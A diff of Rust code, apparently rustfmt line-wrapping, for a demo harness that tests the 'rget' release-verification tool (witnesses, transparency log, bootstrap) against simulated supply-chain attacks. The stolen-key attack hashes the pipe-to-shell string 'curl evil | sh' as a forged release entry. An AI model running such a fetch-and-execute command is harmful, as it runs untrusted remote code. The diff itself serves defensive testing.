@@ -78,12 +78,16 @@ pub fn run(opts: &Options, say: &mut dyn FnMut(&str)) -> Result<Account, String>
         version: VERSION.to_owned(),
         ..Account::default()
     };
-    say(&format!("workspace {} (pid {})", ws.display(), std::process::id()));
+    say(&format!(
+        "workspace {} (pid {})",
+        ws.display(),
+        std::process::id()
+    ));
     let result = steps(opts, &ws, &kids, &mut account, say);
     account.server_pids = kids.server_pids();
     kids.cleanup(Duration::from_secs(5));
-    account.cleaned_up = account.server_pids.iter().all(|p| !children::alive(*p))
-        && (opts.keep || !ws.exists());
+    account.cleaned_up =
+        account.server_pids.iter().all(|p| !children::alive(*p)) && (opts.keep || !ws.exists());
     account.seconds = started.elapsed().as_secs_f64();
     result.map(|()| account)
 }
@@ -163,8 +167,15 @@ fn steps(
     // 1. The publisher's release key, minisign-compatible.
     let keys = dir(ws, "keys")?;
     let (key_pub, key_sec) = (keys.join("release.pub"), keys.join("release.key"));
-    rget(kids, exe, &["keygen", "-W", "-p", p(&key_pub), "-s", p(&key_sec)])?;
-    say(&format!("1. release key     rget keygen -W: {}", p(&key_pub)));
+    rget(
+        kids,
+        exe,
+        &["keygen", "-W", "-p", p(&key_pub), "-s", p(&key_sec)],
+    )?;
+    say(&format!(
+        "1. release key     rget keygen -W: {}",
+        p(&key_pub)
+    ));
 
     // 2. Two witnesses, then the log that needs both of them to cosign every checkpoint.
     let log_dir = ws.join("log");
@@ -179,7 +190,11 @@ fn steps(
     for i in 1..=2 {
         let wdir = ws.join(format!("witness{i}"));
         let name = format!("demo.rget.example/witness{i}");
-        let vkey = last_stdout_line(&rget(kids, exe, &["witness", "init", "--name", &name, p(&wdir)])?);
+        let vkey = last_stdout_line(&rget(
+            kids,
+            exe,
+            &["witness", "init", "--name", &name, p(&wdir)],
+        )?);
         let s = kids.start_server(
             exe,
             &os(&[
@@ -193,7 +208,10 @@ fn steps(
             ]),
             &ws.join(format!("witness{i}.log")),
         )?;
-        say(&format!("2. witness {i}       rget witness serve at {} (pid {})", s.base, s.pid));
+        say(&format!(
+            "2. witness {i}       rget witness serve at {} (pid {})",
+            s.base, s.pid
+        ));
         witnesses.push((vkey, s));
     }
     let mut witness_lines = String::new();
@@ -218,7 +236,10 @@ fn steps(
         ]),
         &ws.join("log.log"),
     )?;
-    say(&format!("3. log             rget log serve {LOG_ORIGIN} at {} (pid {}), 2-of-2 witnesses", log.base, log.pid));
+    say(&format!(
+        "3. log             rget log serve {LOG_ORIGIN} at {} (pid {}), 2-of-2 witnesses",
+        log.base, log.pid
+    ));
     let policy = ws.join("policy");
     let mut client_policy = format!("log {log_vkey} {}/\n", log.base);
     for (i, (vkey, _)) in witnesses.iter().enumerate() {
@@ -230,7 +251,11 @@ fn steps(
     // 3. The release host: static HTTPS with its own CA.
     let www = dir(ws, "www")?;
     let srv = https::start(&www, &dir(ws, "tls")?)?;
-    say(&format!("4. release server  HTTPS at {} (CA {})", srv.base, p(&srv.ca_pem)));
+    say(&format!(
+        "4. release server  HTTPS at {} (CA {})",
+        srv.base,
+        p(&srv.ca_pem)
+    ));
 
     // 4. Publish the running rget as a release: SHA256SUMS, signature, log proof.
     let name = binary_name(VERSION, TARGET);
@@ -270,11 +295,19 @@ fn steps(
     write(&pins.join("SHA256SUMS"), read(&rel_dir.join("SHA256SUMS"))?)?;
     write(&pins.join("release.pub"), read(&key_pub)?)?;
     write(&pins.join("policy"), &client_policy)?;
-    write(&pins.join("source"), format!("{}/rget/v{{version}}/\n", srv.base))?;
-    say("6. bootstrap       cargo build -p rget-bootstrap with RGET_PINNED_DIR (the first run compiles its dependencies)");
+    write(
+        &pins.join("source"),
+        format!("{}/rget/v{{version}}/\n", srv.base),
+    )?;
+    say(
+        "6. bootstrap       cargo build -p rget-bootstrap with RGET_PINNED_DIR (the first run compiles its dependencies)",
+    );
     let boot = build_bootstrap(opts, &pins, ws, kids)?;
     account.bootstrap_sha256 = sha256(&read(&boot)?).to_hex();
-    say(&format!("                  rget-bootstrap sha256 {}", account.bootstrap_sha256));
+    say(&format!(
+        "                  rget-bootstrap sha256 {}",
+        account.bootstrap_sha256
+    ));
 
     // 6. The bootstrap installs and runs the verified rget, which verifies itself.
     let bin = dir(ws, "bin")?;
@@ -312,7 +345,11 @@ fn steps(
         "7. install + exec  {} installed; the executed rget hashed itself: {} ({})",
         p(&bin.join("rget")),
         account.executed_sha256,
-        if account.executed_sha256 == account.released_sha256 { "the released digest" } else { "NOT the released digest" }
+        if account.executed_sha256 == account.released_sha256 {
+            "the released digest"
+        } else {
+            "NOT the released digest"
+        }
     ));
 
     // 7. The attacks, each against the same bootstrap and the same install directory.
@@ -326,7 +363,8 @@ fn steps(
     );
     let attack = |name: &'static str, stopped_by: &'static str| -> Result<Attack, String> {
         let out = kids.run(bootstrap_cmd(&boot, &bin, &srv.ca_pem).args(["--", "--version"]))?;
-        let untouched = read(&bin.join("rget"))? == installed && only(&bin, &["rget", "rget.previous"]);
+        let untouched =
+            read(&bin.join("rget"))? == installed && only(&bin, &["rget", "rget.previous"]);
         Ok(Attack {
             name,
             stopped_by,
@@ -349,7 +387,11 @@ fn steps(
     report_attack(account.attacks.last(), 8, say);
 
     // b. A stolen release key signs a SHA256SUMS that was never logged.
-    let evil_sums = [&sums[..], format!("{}  rget-tools.sh\n", sha256(b"curl evil | sh")).as_bytes()].concat();
+    let evil_sums = [
+        &sums[..],
+        format!("{}  rget-tools.sh\n", sha256(b"curl evil | sh")).as_bytes(),
+    ]
+    .concat();
     let evil_sig = crate::cli::release::sign_sums(&key_sec, &evil_sums)?;
     write(&sums_path, &evil_sums)?;
     write(&rel_dir.join("SHA256SUMS.minisig"), &evil_sig)?;
@@ -405,7 +447,8 @@ fn bootstrap_cmd(boot: &Path, bin: &Path, ca: &Path) -> Command {
 
 /// The published checkpoint's size (the second line of `log/public/checkpoint`).
 fn log_size(log_dir: &Path) -> Result<u64, String> {
-    let cp = String::from_utf8(read(&log_dir.join("public").join("checkpoint"))?).map_err(|e| e.to_string())?;
+    let cp = String::from_utf8(read(&log_dir.join("public").join("checkpoint"))?)
+        .map_err(|e| e.to_string())?;
     cp.lines()
         .nth(1)
         .and_then(|l| l.parse().ok())
@@ -413,7 +456,12 @@ fn log_size(log_dir: &Path) -> Result<u64, String> {
 }
 
 /// `cargo build -p rget-bootstrap` with the demo's pins; returns the copied binary.
-fn build_bootstrap(opts: &Options, pins: &Path, ws: &Path, kids: &Children) -> Result<PathBuf, String> {
+fn build_bootstrap(
+    opts: &Options,
+    pins: &Path,
+    ws: &Path,
+    kids: &Children,
+) -> Result<PathBuf, String> {
     let manifest = opts.source.join("Cargo.toml");
     if !opts.source.join("bootstrap").join("build.rs").is_file() {
         return Err(format!(
@@ -424,13 +472,22 @@ fn build_bootstrap(opts: &Options, pins: &Path, ws: &Path, kids: &Children) -> R
     let cargo = std::env::var_os("CARGO").unwrap_or_else(|| "cargo".into());
     let out = kids.run(
         Command::new(cargo)
-            .args(["build", "--locked", "-p", "rget-bootstrap", "--manifest-path"])
+            .args([
+                "build",
+                "--locked",
+                "-p",
+                "rget-bootstrap",
+                "--manifest-path",
+            ])
             .arg(&manifest)
             .env("CARGO_TARGET_DIR", &opts.target_dir)
             .env("RGET_PINNED_DIR", pins),
     )?;
     if !out.status.success() {
-        return Err(format!("building the bootstrap failed: {}", last_line(&out.stderr)));
+        return Err(format!(
+            "building the bootstrap failed: {}",
+            last_line(&out.stderr)
+        ));
     }
     let built = opts.target_dir.join("debug").join("rget-bootstrap");
     let boot = ws.join("rget-bootstrap");
